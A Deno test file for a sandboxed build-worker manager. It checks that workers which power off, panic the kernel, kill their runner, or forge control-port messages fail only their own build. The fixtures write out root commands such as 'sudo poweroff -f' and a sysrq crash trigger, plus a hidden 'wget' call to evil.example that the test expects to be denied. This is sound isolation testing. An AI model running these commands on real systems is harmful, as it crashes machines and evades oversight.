/**
 * A worker that lies, breaks the rules of its runner or ends itself: it decides
 * nothing but its own exit status, and the manager goes on.
 *
 * @module
 */

import assert from "node:assert/strict";
import { end, file, join } from "../../src/guest/testing/archive.ts";
import { FakeInternet } from "../harness/fake_internet.ts";
import { Project } from "../project.ts";
import {
  assertDenied,
  assertSuccess,
  type Attack,
  explain,
  phaseOutcome,
  type Result,
  run,
} from "./attack.ts";
import { startAsRoot, takePort, writeExport } from "./root_commands.ts";

const forever = "sleep 600";

/** Root says something on the control port in the runner's place. */
function sayAsRunner(speech: string): Attack {
  return {
    allow: [],
    files: { "say.sh": `${takePort("control")}${speech}\n` },
    script: `${startAsRoot("say.sh")}\n${forever}`,
  };
}

/** The archive that a forger hands over as its workspace. */
const forgedWorkspace = join(file("src/result", "forged\n"), end());

/**
 * Says that the build commands succeeded, and that the workspace was packed;
 * does something between the two, when the first was believed.
 */
function forgeSuccess(between: string): Attack {
  const forgery = sayAsRunner(`
echo 'exit 0' >&5
read -r request <&5
${between}
${writeExport("workspace.tar")}
echo 'exit 0' >&5`);
  return {
    ...forgery,
    files: { ...forgery.files, "workspace.tar": forgedWorkspace },
  };
}

interface Misconduct extends Attack {
  name: string;
  /** What the build fails with. */
  error: "worker-died" | "runner-protocol";
  /** What of the worker's console is told. */
  detail?: RegExp;
}

const misconducts: Misconduct[] = [
  {
    name: "switches itself off",
    script: `sudo poweroff -f\n${forever}`,
    error: "worker-died",
  },
  {
    name: "panics",
    script: `sudo sh -c 'echo c >/proc/sysrq-trigger'\n${forever}`,
    error: "worker-died",
    detail: /Kernel panic/,
  },
  {
    name: "kills its runner, which is started again",
    script: "sudo killall -KILL runner",
    error: "runner-protocol",
  },
  {
    name: "writes garbage to the control port",
    ...sayAsRunner("printf '\\377\\000garbage\\n' >&5"),
    error: "runner-protocol",
  },
  {
    name: "sends a line without an end",
    ...sayAsRunner(`printf ${"x".repeat(2000)} >&5`),
    error: "runner-protocol",
  },
  {
    name: "says that it is ready, out of turn",
    ...sayAsRunner("echo 'ready 1' >&5"),
    error: "runner-protocol",
  },
];

Deno.test("a worker that misbehaves fails its own build alone", async (t) => {
  await using internet = new FakeInternet();
  await using project = await Project.create();
  const good = (): Promise<Result> =>
    run(project, internet, { allow: [], script: "echo built >result" });
  const kept = () => project.read("ws/src/result");

  await t.step("the control", async () => {
    assertSuccess(await good());
    assert.equal(await kept(), "built\n");
  });

  for (const { name, error, detail, ...attack } of misconducts) {
    await t.step(name, async () => {
      const result = await run(project, internet, { allow: [], ...attack });
      const said = explain(result);
      assert.equal(result.report.error?.code, `manager-${error}`, said);
      assert.equal(result.code, 3, said);
      if (detail !== undefined) {
        assert.match(result.report.error?.detail ?? "", detail);
      }
      assert.equal(result.report.buildStatus, null, said);
      assert.deepEqual(result.report.retries, [], said);
      assert.equal(result.report.workspace.exported, false, said);
      assert.equal(await kept(), "built\n");
    });
  }

  await t.step("forged success hides an attempt no better", async () => {
    const attempt = "wget -q -O /dev/null http://evil.example/";
    const result = await run(project, internet, forgeSuccess(attempt));
    assertDenied(result, {
      refusal: "name-not-allowed",
      host: "evil.example",
      phase: "workspace-out",
    });
    // The forger was believed up to its attempt.
    assert.equal(result.report.buildStatus, 0, explain(result));
    assert.equal(internet.trap.connections.length, 0);
    assert.equal(await kept(), "built\n");
  });

  await t.step(
    "the control: forging alone decides on the workspace",
    async () => {
      const result = await run(project, internet, forgeSuccess(":"));
      assertSuccess(result);
      assert.equal(result.report.buildStatus, 0);
      assert.equal(await kept(), "forged\n");
    },
  );

  await t.step("the manager goes on", async () => {
    const result = await good();
    assertSuccess(result);
    assert.equal(await kept(), "built\n");
    assert.equal(phaseOutcome(result, "manager"), "reused");
  });
});
